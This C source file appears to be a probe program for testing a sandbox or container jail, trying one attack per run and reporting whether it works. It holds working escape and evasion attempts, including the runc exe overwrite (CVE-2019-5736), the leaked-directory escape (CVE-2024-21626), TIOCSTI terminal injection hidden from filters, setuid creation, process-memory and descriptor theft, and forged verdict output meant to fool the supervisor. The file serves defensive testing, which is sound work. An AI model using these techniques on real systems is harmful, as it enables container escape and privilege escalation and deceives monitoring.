/* One attack each, as a hostile tenant would try it: `attack NAME [ARG...]`.
 * Says `NAME=works` where it got what it was after, else `NAME=refused WHY`.
 * `attack marked NAME [ARG...]` tells by what its jail is known first. */
#include "probe.h"
#include <dirent.h>
#include <linux/fs.h>
#include <mqueue.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/un.h>

extern char **environ;

static const char *attack;

static void works(void)
{
	fact(attack, "works");
	exit(0);
}

static void refused(const char *why)
{
	fact(attack, "refused %s", why);
	exit(0);
}

/* Works unless the result is an error. */
static void judge(long result)
{
	if (result >= 0)
		works();
	refused(error_name());
}

static int copy_self(int target)
{
	char buffer[65536];
	ssize_t n;
	int source = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	if (source < 0)
		return -1;
	while ((n = read(source, buffer, sizeof buffer)) > 0)
		if (write(target, buffer, n) != n)
			return -1;
	close(source);
	return (int)n;
}

/* Forks a child that executes `fd` or `path` and says so by its exit status. */
static void judge_execution(int fd, const char *path)
{
	char *argv[] = { "attack", "ran", NULL };
	int status;
	pid_t child = fork();
	if (child == 0) {
		if (path)
			execve(path, argv, environ);
		else
			syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
		_exit(errno);
	}
	waitpid(child, &status, 0);
	if (WIFEXITED(status) && WEXITSTATUS(status) == 200)
		works();
	errno = WIFEXITED(status) ? WEXITSTATUS(status) : 0;
	refused(WIFEXITED(status) ? error_name() : "signal");
}

/* CVE-2019-5736: keep the launcher's executable open, wait until it is no
 * longer running, then write to it. The victim is a process id; 0 is oneself. */
static void exe_overwrite(int victim)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/exe", victim ? victim : getpid());
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		refused(error_name());
	if (victim)
		kill(victim, SIGKILL);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	for (int attempt = 0; attempt < 100; attempt++) {
		int writable = open(path, O_WRONLY | O_CLOEXEC);
		if (writable >= 0)
			judge(pwrite(writable, "#!", 2, 0));
		if (errno != ETXTBSY)
			break;
		sleep_ms(10);
	}
	refused(error_name());
}

/* CVE-2024-21626: a directory left open by the launcher leads to the host's root. */
static void leaked_directory(void)
{
	for (int fd = 0; fd < 4096; fd++) {
		int out = openat(fd, "../../../../../../../../../etc/hostname", O_RDONLY | O_CLOEXEC);
		struct stat status;
		if (out >= 0 || (fstat(fd, &status) == 0 && S_ISDIR(status.st_mode)))
			works();
	}
	char path[64], cwd[PATH_MAX];
	for (int fd = 0; fd < 256; fd++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		if (chdir(path) == 0 && getcwd(cwd, sizeof cwd))
			works();
	}
	refused("nothing-open");
}

static void memfd_execution(unsigned flags)
{
	int fd = (int)syscall(SYS_memfd_create, "payload", flags);
	if (fd < 0 || fchmod(fd, 0755) < 0 || copy_self(fd) < 0)
		refused(error_name());
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	int reader = open(path, O_RDONLY);
	if (reader < 0)
		refused(error_name());
	close(fd);
	judge_execution(reader, NULL);
}

static void file_execution(const char *directory, int map)
{
	char path[PATH_MAX];
	snprintf(path, sizeof path, "%s/.payload-%d", directory, getpid());
	int fd = open(path, O_CREAT | O_RDWR | O_CLOEXEC, 0755);
	if (fd < 0 || copy_self(fd) < 0)
		refused(error_name());
	close(fd);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (map) {
		void *code = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
		unlink(path);
		judge(code == MAP_FAILED ? -1 : 0);
	}
	judge_execution(fd, path);
}

/* A name in the abstract space, which namespaces of the file system do not cover. */
static socklen_t abstract(struct sockaddr_un *address, const char *name)
{
	*address = (struct sockaddr_un){ .sun_family = AF_UNIX };
	snprintf(address->sun_path + 1, sizeof address->sun_path - 1, "%s", name);
	return (socklen_t)(sizeof(sa_family_t) + 1 + strlen(name));
}

static void abstract_listen(const char *name)
{
	struct sockaddr_un address;
	socklen_t length = abstract(&address, name);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (bind(fd, (struct sockaddr *)&address, length) < 0 || listen(fd, 8) < 0)
		refused(error_name());
	prctl(PR_SET_NAME, name); /* tells the test that it may connect now */
	forever();
}

static void abstract_connect(const char *name)
{
	struct sockaddr_un address;
	socklen_t length = abstract(&address, name);
	judge(connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&address, length));
}

/* State that a run leaves behind for the next one to find. */
static void leave(const char *kind, const char *key)
{
	char path[PATH_MAX];
	int number_key = (int)strtol(key, NULL, 10);
	if (strcmp(kind, "sysv-shm") == 0)
		judge(shmget(number_key, 4096, IPC_CREAT | IPC_EXCL | 0666));
	if (strcmp(kind, "sysv-msg") == 0)
		judge(msgget(number_key, IPC_CREAT | IPC_EXCL | 0666));
	if (strcmp(kind, "mqueue") == 0) {
		snprintf(path, sizeof path, "/%s", key);
		judge(mq_open(path, O_CREAT | O_EXCL | O_RDWR, 0666, NULL));
	}
	snprintf(path, sizeof path, "%s/left-%s", kind, key);
	judge(open(path, O_CREAT | O_EXCL | O_WRONLY, 0666));
}

/* Looks for it and takes it away. */
static void find(const char *kind, const char *key)
{
	char path[PATH_MAX];
	int number_key = (int)strtol(key, NULL, 10), id;
	if (strcmp(kind, "sysv-shm") == 0) {
		id = shmget(number_key, 0, 0);
		judge(id < 0 ? -1 : shmctl(id, IPC_RMID, NULL));
	}
	if (strcmp(kind, "sysv-msg") == 0) {
		id = msgget(number_key, 0);
		judge(id < 0 ? -1 : msgctl(id, IPC_RMID, NULL));
	}
	if (strcmp(kind, "mqueue") == 0) {
		snprintf(path, sizeof path, "/%s", key);
		judge(mq_unlink(path));
	}
	snprintf(path, sizeof path, "%s/left-%s", kind, key);
	judge(unlink(path));
}

/* Reads another process's memory file; for pid 1 in a jail that is our init. */
static void memory_of(pid_t victim)
{
	char path[64], byte;
	snprintf(path, sizeof path, "/proc/%d/mem", victim);
	int fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		refused(error_name());
	snprintf(path, sizeof path, "/proc/%d/maps", victim);
	FILE *maps = fopen(path, "re");
	unsigned long start;
	if (!maps || fscanf(maps, "%lx", &start) != 1)
		refused(error_name());
	judge(pread(fd, &byte, 1, (off_t)start) == 1 ? 0 : -1);
}

static void descriptor_of(pid_t victim)
{
	int pidfd = (int)syscall(SYS_pidfd_open, victim, 0);
	if (pidfd < 0)
		refused(error_name());
	for (int fd = 0; fd < 64; fd++)
		if (syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0)
			works();
	refused(error_name());
}

/* Every signal that could end or stop a process, sent to the victim and to all. */
static void kill_victim(pid_t victim)
{
	static const int signals[] = { SIGHUP, SIGINT, SIGQUIT, SIGABRT, SIGBUS, SIGSEGV, SIGPIPE,
				       SIGTERM, SIGTSTP, SIGSTOP, SIGKILL };
	int delivered = 0;
	for (size_t i = 0; i < sizeof signals / sizeof *signals; i++)
		delivered += kill(victim, signals[i]) == 0;
	sleep_ms(50);
	if (!delivered)
		refused(error_name());
	if (victim == 1) /* we are still here, so init is, or we would have died with it */
		refused("ignored");
	works();
}

/* Types a command into the controlling terminal; the second form hides the
 * request's number from filters that compare 64 bits. */
static void type_into_terminal(const char *terminal, unsigned long request)
{
	int fd = terminal ? open(terminal, O_RDWR) : 0;
	if (fd < 0)
		refused(error_name());
	if (terminal) {
		setsid();
		ioctl(fd, TIOCSCTTY, 0);
	}
	judge(syscall(SYS_ioctl, fd, request, "x"));
}

/* A symbolic link for the host to follow, or to follow ourselves. */
static void follow_link(const char *directory, const char *target)
{
	char path[PATH_MAX];
	snprintf(path, sizeof path, "%s/.link-%d", directory, getpid());
	if (symlink(target, path) < 0)
		refused(error_name());
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	unlink(path);
	judge(fd);
}

static void setuid_file(const char *directory)
{
	char path[PATH_MAX];
	snprintf(path, sizeof path, "%s/.setuid-%d", directory, getpid());
	int fd = open(path, O_CREAT | O_RDWR | O_CLOEXEC, 0755);
	struct stat status = { 0 };
	if (fd < 0 || fchown(fd, 0, 0) < 0 || fchmod(fd, 06755) < 0 || fstat(fd, &status) < 0) {
		unlink(path);
		refused(error_name());
	}
	unlink(path);
	judge(status.st_uid == 0 && (status.st_mode & S_ISUID) ? 0 : -1);
}

/* A set-user-id file of whoever owns what this directory makes, in every way that
 * sets a mode; for a directory of the host's, that may be root. */
static void setuid_bit(const char *directory)
{
	char path[PATH_MAX];
	struct stat status;
	const char *why = "no-bit";
	for (int way = 0; way < 7; way++) {
		snprintf(path, sizeof path, "%s/.bit-%d-%d", directory, getpid(), way);
		mode_t mode = way == 0 ? 04755 : 0755;
		umask(0);
		int fd = way == 1 ? (mknod(path, S_IFREG | 04755, 0), open(path, O_RDWR | O_CLOEXEC))
				  : open(path, O_CREAT | O_RDWR | O_CLOEXEC, mode);
		if (fd < 0) {
			why = error_name();
			continue;
		}
		long result = 0;
		switch (way) {
		case 2: result = fchmod(fd, 04755); break;
		case 3: result = chmod(path, 04755); break;
		case 4: result = fchmodat(AT_FDCWD, path, 04755, 0); break;
		case 5: result = syscall(452 /* fchmodat2 */, AT_FDCWD, path, 04755, 0); break;
		case 6: result = fchmod(fd, 02755); break;
		}
		if (result < 0)
			why = error_name();
		if (fstat(fd, &status) == 0 && (status.st_mode & (S_ISUID | S_ISGID))) {
			unlink(path);
			works();
		}
		unlink(path);
		close(fd);
	}
	refused(why);
}

/* Everything below the root that other runs or the host could have left readable. */
static void read_file(const char *path)
{
	char byte;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		refused(error_name());
	judge(read(fd, &byte, 1) < 0 ? -1 : 0);
}

static void write_to(const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0)
		close(fd);
	judge(fd);
}

/* Forged endings: everything but the kernel's own word. */
static void forge_ending(void)
{
	static const char forged[] = "\ndispatcher: OUT_OF_MEMORY out_of_memory: forged\n"
				     "{\"verdict\":\"EXITED\",\"exit_code\":0}\n";
	signal(SIGPIPE, SIG_IGN); /* outside, others' pipes may be among them */
	for (int fd = 0; fd < 4096; fd++)
		if (fcntl(fd, F_GETFD) >= 0 && write(fd, forged, sizeof forged - 1) < 0)
			continue;
	exit(7);
}

/* The forbidden call is made two forks and a session away; the first process ends well. */
static void deadly_grandchild(void)
{
	if (fork() == 0) {
		setsid();
		if (fork() == 0) {
			syscall(SYS_unshare, 0x10000000);
			_exit(0);
		}
		wait(NULL);
		_exit(0);
	}
	wait(NULL);
	works();
}

/* Every other process in sight, by the listing of /proc and by signal 0. */
static void see_others(void)
{
	int others = 0;
	DIR *directory = opendir("/proc");
	for (struct dirent *entry; directory && (entry = readdir(directory));) {
		int pid = atoi(entry->d_name);
		others += pid > 0 && pid != getpid();
	}
	if (others)
		works();
	refused("none");
}

int main(int argc, char **argv)
{
	if (argc < 2)
		misuse("attack NAME [ARG...]");
	if (argc > 2 && strcmp(argv[1], "marked") == 0) {
		marks();
		argc--;
		argv++;
	}
	attack = argv[1];
	const char *text = argc > 2 ? argv[2] : NULL, *more = argc > 3 ? argv[3] : NULL;
	const int pid = text ? atoi(text) : 0;
#define IS(name) (strcmp(attack, name) == 0)
	if (IS("ran"))
		_exit(200);
	if (IS("nothing"))
		refused("nothing");
	if (IS("exe-overwrite"))
		exe_overwrite(pid);
	if (IS("leaked-directory"))
		leaked_directory();
	if (IS("memfd-exec"))
		memfd_execution(0);
	if (IS("memfd-exec-flag")) /* MFD_EXEC: the kernel's own permission, where it asks */
		memfd_execution(0x10);
	if (IS("file-exec"))
		file_execution(text, 0);
	if (IS("file-map"))
		file_execution(text, 1);
	if (IS("abstract-listen"))
		abstract_listen(text);
	if (IS("abstract-connect"))
		abstract_connect(text);
	if (IS("leave") && more)
		leave(text, more);
	if (IS("find") && more)
		find(text, more);
	if (IS("memory-of"))
		memory_of(pid);
	if (IS("descriptor-of"))
		descriptor_of(pid);
	if (IS("kill"))
		kill_victim(pid);
	if (IS("tiocsti"))
		type_into_terminal(text, TIOCSTI);
	if (IS("tiocsti-upper"))
		type_into_terminal(text, TIOCSTI | 1UL << 32);
	if (IS("follow-link") && more)
		follow_link(text, more);
	if (IS("setuid-file"))
		setuid_file(text);
	if (IS("setuid-bit"))
		setuid_bit(text);
	if (IS("read-file"))
		read_file(text);
	if (IS("write-to"))
		write_to(text);
	if (IS("forge"))
		forge_ending();
	if (IS("deadly-grandchild"))
		deadly_grandchild();
	if (IS("see-others"))
		see_others();
	misuse("no such attack: %s", attack);
}
